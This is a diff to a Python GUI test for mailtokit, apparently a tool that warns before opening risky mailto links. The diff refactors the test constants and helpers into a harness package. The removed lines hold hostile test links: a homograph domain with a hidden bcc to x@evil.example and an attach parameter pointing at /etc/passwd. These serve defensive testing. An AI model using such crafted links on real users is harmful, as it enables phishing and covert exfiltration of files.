@@ -35,22 +35,18 @@ import a11y
 
 a11y.reexec_with_system_python()
 
-from open_desktop import Desktop, wait_exit, window_geometry  # noqa: E402
-from session import Failure, Session, require  # noqa: E402
+from harness import titles  # noqa: E402
+from harness.checks import Checks  # noqa: E402
+from harness.desktop import Desktop, wait_exit  # noqa: E402
+from harness.links import BCC_ONLY, HOMOGRAPH, PLAIN  # noqa: E402
+from harness.session import Session, require, window_geometry  # noqa: E402
 
 PROG = os.path.realpath(sys.argv[1])
 ASK = os.path.join(os.path.dirname(PROG), "mailtokit-ask")
 RESULTS = Path(os.environ.get("MAILTOKIT_RESULTS", "desktop-results"))
 RESULTS.mkdir(parents=True, exist_ok=True)
-TITLE = r"^mailtokit: check this link before it opens"
-HOMOGRAPH = "mailto:admin@%D0%B0pple.com?bcc=x@evil.example&subject=Invoice&attach=%2Fetc%2Fpasswd"
-BCC_ONLY = "mailto:a@example.org?bcc=x@evil.example"
-failures = []
-
-def check(cond, msg):
-    print(("ok:   " if cond else "FAIL: ") + msg)
-    if not cond:
-        failures.append(msg)
+checks = Checks("confirm_dialog", show_passed=True)
+check, failures = checks.check, checks.failures
 
 
 def fields_of(uri):
@@ -92,7 +88,7 @@ with Session("confirm-dialog", 1280, 800) as s:
     def ask(link, args=(), env=None):
         d.clear()
         p, log = d.start(["open", *args, link], env=env)
-        win = s.wait_window(TITLE, timeout=30)
+        win = s.wait_window(titles.QUESTION_ANY, timeout=30)
         return p, log, win
 
     def fits(win, what):
@@ -110,7 +106,7 @@ with Session("confirm-dialog", 1280, 800) as s:
     check(q["default"] == ["cancel"] and list(b) == [x for x in q["button:cancel"] + q.get("button:open_without_bcc", [])
                                                     + q["button:open"]],
           f"the window shows the question's buttons in order, Cancel the default: {list(b)}, {q['default']}")
-    check(q["title"] == ["mailtokit: check this link before it opens"] and q["headline"][0] != "",
+    check(q["title"] == [titles.QUESTION_TEXT] and q["headline"][0] != "",
           f"the question has its title and headline: {q['headline']}")
     check(any("x@evil.example" in t for t in q["details"]) and any("xn--pple-43d" in t for t in q["details"]),
           "the details hold the draft (the hidden address, the ASCII form of the look-alike domain)")
@@ -160,11 +156,11 @@ with Session("confirm-dialog", 1280, 800) as s:
 
     # ---- 2. when it asks -----------------------------------------------------------------------
     d.clear()
-    p, _ = d.start(["open", "mailto:friend@example.org?subject=hi"])
+    p, _ = d.start(["open", PLAIN])
     rc = wait_exit(p, 30, "plain link")
     check(rc == 0 and d.recorded("ask") == [] and len(d.recorded("recorder")) == 1,
           "confirm = risky: a plain link opens without a question")
-    p, log, win = ask("mailto:friend@example.org?subject=hi", ["--confirm"])
+    p, log, win = ask(PLAIN, ["--confirm"])
     b = buttons(pyatspi, s, win)
     check(list(b) == ["Cancel", "Open as it is"], f"--confirm, plain link: two buttons {list(b)}")
     s.click(*a11y.center(pyatspi, b["Open as it is"]))
@@ -194,13 +190,13 @@ with Session("confirm-dialog", 1280, 800) as s:
             (n for n in a11y.walk(app) if n.getRole() == pyatspi.ROLE_PUSH_BUTTON and n.name == label
              and "showing" in a11y.states(pyatspi, n)), None), 30, f"zenity's {label!r} button")
     s.click(*a11y.center(pyatspi, zenity_button("Details")))
-    shown = s.wait_window(r"^Details$", timeout=30)
+    shown = s.wait_window(titles.DETAILS, timeout=30)
     s.run(["sleep", "0.5"])
     s.screenshot(RESULTS / "confirm_dialog_zenity_details.png")
     check(any("xn--pple-43d" in t for t in [p_.read_text("utf-8") for p_ in s.root.glob("record.zenity.*.text")]),
           "zenity: Details shows the draft (the look-alike domain's ASCII form)")
     s.key(shown, "Escape")
-    win = s.wait_window(TITLE, timeout=30)
+    win = s.wait_window(titles.QUESTION_ANY, timeout=30)
     check(len(d.recorded("zenity")) == 3, f"zenity: after the details, the question again ({len(d.recorded('zenity'))} runs)")
     s.key(win, "Return")
     rc = wait_exit(p, 30, "zenity Enter")
@@ -302,7 +298,4 @@ with Session("confirm-dialog", 1280, 800) as s:
     r = s.run([ASK, str(qfile)], check=False, env={"DISPLAY": "", "WAYLAND_DISPLAY": ""})
     check(r.returncode == 3 and "display" in r.stderr, f"mailtokit-ask: no display exits 3 ({r.returncode}: {r.stderr.strip()})")
 
-if failures:
-    print(f"{len(failures)} failure(s)")
-    sys.exit(1)
-print("confirm_dialog: all checks passed")
+checks.finish()
